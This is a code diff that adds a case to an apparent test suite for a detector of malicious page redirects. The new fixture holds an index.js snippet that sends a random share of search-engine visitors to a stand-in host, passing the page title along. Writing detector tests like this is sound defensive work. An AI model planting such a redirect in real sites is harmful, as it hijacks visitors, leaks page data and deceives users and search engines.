@@ -97,6 +97,13 @@ examine(redirectsPage, {
       },
       weight: 'strong',
     },
+    {
+      when: 'some visitors are led away, by chance',
+      files: {
+        'index.js': `exports.start = () => { if (/\\b(?:google|bing)\\./.test(document.referrer) && Math.random() < 0.35) location.replace('https://go.lead.invalid/?k=' + document.title); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
